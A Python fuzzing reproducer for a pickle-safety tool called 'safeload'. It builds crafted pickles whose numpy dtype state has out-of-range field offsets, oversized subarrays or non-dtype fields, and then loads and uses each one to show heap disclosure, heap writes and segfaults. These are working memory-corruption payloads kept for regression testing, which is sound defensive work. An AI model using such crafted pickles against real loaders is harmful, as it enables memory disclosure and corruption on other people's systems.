"""Minimal reproducers: safeload accepts a ``numpy.dtype`` whose BUILD state is corrupt.

``numpy.dtype.__setstate__`` trusts its state: field entries that are not dtypes,
field offsets beyond ``itemsize``, names missing from ``fields`` and subarrays
larger than the item are all accepted, and numpy then reads and writes outside
the array buffer (heap disclosure, heap corruption, segfault).  The fuzzer found
this through a sklearn ``Tree`` whose node dtype had a field "dtype" replaced by
a memoized string (``fixed/crash-SIGSEGV-*.bin``: segfault inside ``Tree.__setstate__``
during ``safeload.loads``).

    python fuzz/crashes/repro_dtype_state.py          # write the .bin files to fuzz/crashes/fixed/
    python fuzz/crashes/repro_dtype_state.py --check  # scan + load + use each one in a child process
"""

from __future__ import annotations

import pickle
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np

HERE = Path(__file__).resolve().parent
OUT = HERE / "fixed"
I8 = np.dtype("<i8")


class Dtype:
    """Pickles as ``numpy.dtype(base, False, True)`` followed by BUILD ``state``."""

    def __init__(self, state: tuple[Any, ...], base: str = "V16") -> None:
        self.state, self.base = state, base

    def __reduce__(self) -> Any:
        return (np.dtype, (self.base, False, True), self.state)


class Array:
    """Pickles as numpy does: ``_reconstruct`` then BUILD ``(1, shape, dtype, False, raw bytes)``."""

    def __init__(self, dtype: Dtype, nbytes: int, n: int = 2) -> None:
        self.dtype, self.nbytes, self.n = dtype, nbytes, n

    def __reduce__(self) -> Any:
        from numpy._core.multiarray import _reconstruct

        return (_reconstruct, (np.ndarray, (0,), b"b"), (1, (self.n,), self.dtype, False, b"A" * self.nbytes))


CASES: dict[str, Any] = {
    # field "b" of a 16-byte record sits 100 MB away: reading it segfaults, writing corrupts the heap
    "dtype-field-offset-oob": Array(Dtype((3, "|", None, ("a", "b"), {"a": (I8, 0), "b": (I8, 100_000_000)},
                                          16, 1, 16)), 32),
    # same with offset 24: no crash on read, silently discloses/overwrites adjacent heap memory
    "dtype-field-offset-heap-rw": Array(Dtype((3, "|", None, ("a", "b"), {"a": (I8, 0), "b": (I8, 24)},
                                              16, 1, 16)), 32),
    # a subarray of 1000 int64 in a 16-byte item: tolist() reads ~8 KB past the buffer
    "dtype-subarray-larger-than-item": Array(Dtype((3, "|", (I8, (1000,)), None, None, 16, 1, 16)), 32),
    # a field entry that is not a dtype
    "dtype-field-not-a-dtype": Array(Dtype((3, "|", None, ("a", "b"), {"a": (I8, 0), "b": ("junk", 8)},
                                           16, 1, 16)), 32),
}

USE = {
    "dtype-field-offset-oob": "print(obj['b'])",
    "dtype-field-offset-heap-rw": "print(obj['b']); obj['b'] = 0x4141414141414141; del obj; import gc; gc.collect()",
    "dtype-subarray-larger-than-item": "print(len(repr(obj.tolist())))",
    "dtype-field-not-a-dtype": "import numpy as np; print(np.zeros(1, obj.dtype)); print(obj)",
}

CHILD = """
import sys, safeload
path = sys.argv[1]
print("scan:", safeload.scan(path).verdict, flush=True)
obj = safeload.loads(open(path, "rb").read())
print("loads: returned", type(obj).__name__, flush=True)
{use}
print("used without crashing", flush=True)
"""


def main() -> int:
    for name, obj in CASES.items():
        (OUT / f"{name}.bin").write_bytes(pickle.dumps(obj, protocol=2))
    if "--check" not in sys.argv:
        return 0
    repo = HERE.parents[1]
    for name in CASES:
        proc = subprocess.run([sys.executable, "-c", CHILD.format(use=USE[name]), str(OUT / f"{name}.bin")],
                              capture_output=True, text=True, cwd=repo, timeout=120,
                              env={"PYTHONPATH": str(repo), "PATH": "/usr/bin:/bin"})
        tail = (proc.stdout + proc.stderr).strip().splitlines()[-4:]
        print(f"== {name}: exit {proc.returncode}\n   " + "\n   ".join(line[:160] for line in tail))
    return 0


if __name__ == "__main__":
    sys.exit(main())
